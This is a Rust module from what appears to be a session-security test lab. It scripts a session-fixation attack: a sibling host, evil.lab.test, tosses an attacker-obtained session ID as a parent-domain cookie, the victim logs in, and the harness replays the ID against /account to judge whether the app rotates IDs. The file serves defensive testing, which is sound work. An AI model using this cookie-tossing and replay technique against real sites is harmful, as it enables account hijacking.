//! `fixation-cookie`: a sibling host tosses a session cookie onto the victim.
//!
//! The attacker opens the login page to obtain a real, issued anonymous
//! session ID, then lures the victim to `evil.lab.test`, which answers with
//! `Set-Cookie: <name>=<id>; Domain=lab.test`: a sibling host may set cookies
//! for its parent domain. If the app keeps the ID at login, the attacker's ID
//! becomes the victim's logged-in session.

use sessionlab_browser::SetCookieOutcome;

use crate::actors::{
    judge, log_in, read_own_note, refused_cookie, replay_session_id, session_id, short,
};
use crate::evil_site::EvilSite;
use crate::lab::{RunContext, RunError};
use crate::outcome::{Actor, Verdict};
use crate::victim::Drive;

pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    let cookie = ctx.target.session_cookie.clone();
    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
    attacker.open(&ctx.app_url("/login"), None).await?;
    let Some(issued) = session_id(ctx, &attacker) else {
        let why = refused_cookie(&attacker)
            .map(|r| format!(": {r}"))
            .unwrap_or_default();
        return Err(RunError::Lab(format!(
            "the app handed out no session ID to an anonymous visitor{why}"
        )));
    };
    let evil = EvilSite::start()
        .await
        .map_err(|e| RunError::Lab(format!("could not start evil.lab.test: {e}")))?;
    let tossed = format!("{cookie}={issued}; Domain=lab.test; Path=/");
    evil.toss_cookie(tossed.clone());
    ctx.step(
        Actor::Attacker,
        "opened the login page to get an issued session ID, and set up evil.lab.test to toss it",
        format!(
            "Set-Cookie: {cookie}={}; Domain=lab.test; Path=/",
            short(&issued)
        ),
    );

    let mut victim = ctx.victim_browser("victim");
    evil.join(victim.network_mut());
    victim.open(&evil.url("/toss")).await?;
    let offered = victim
        .exchanges()
        .iter()
        .rev()
        .find(|x| x.url.path() == "/toss")
        .and_then(|x| x.set_cookie_outcomes.first().cloned());
    let refused = matches!(offered, Some(SetCookieOutcome::Rejected { .. }));
    let stored = offered
        .map(|outcome| match outcome {
            SetCookieOutcome::Stored(_) | SetCookieOutcome::Replaced(_) => {
                "her browser stored the tossed cookie for lab.test".to_string()
            }
            SetCookieOutcome::Rejected { reason, .. } => {
                format!("her browser refused the tossed cookie: {reason}")
            }
            SetCookieOutcome::Deleted { .. } => "her browser deleted a cookie instead".to_string(),
        })
        .unwrap_or_else(|| "no cookie was offered".to_string());
    let visited = ctx.step(
        Actor::Victim,
        format!("{} visited a page on evil.lab.test", ctx.victim.username),
        &stored,
    );

    log_in(ctx, &mut victim, &ctx.victim).await?;
    let note = read_own_note(ctx, &mut victim).await?;
    // With the tossed cookie still in her jar, a new ID from the app sits beside it
    // (same name, host-only): name them all rather than the first one found.
    let held: Vec<String> = victim.cookie_values(&cookie);
    let own: Vec<&String> = held.iter().filter(|id| **id != issued).collect();
    let observed = match (held.contains(&issued), own.first()) {
        (true, None) => "after login her session ID is still the attacker's".to_string(),
        (true, Some(new)) => format!(
            "after login her browser holds the tossed ID and a new one from the app, {}",
            short(new)
        ),
        (false, Some(new)) => format!(
            "after login her session ID is {}, not the attacker's",
            short(new)
        ),
        (false, None) => "after login her browser holds no session cookie".to_string(),
    };
    let logged_in = ctx.step(
        Actor::Victim,
        format!("{} logged in at the app", ctx.victim.username),
        &observed,
    );

    let account = ctx.app_url("/account");
    let probe = replay_session_id(ctx, &issued, account).await?;
    Ok(judge(
        ctx,
        "opened /account with the tossed ID",
        &probe,
        &note,
        &format!("{stored}; {observed}"),
        "the tossed ID",
    )
    .or_broke_at(if refused { visited } else { logged_in }))
}
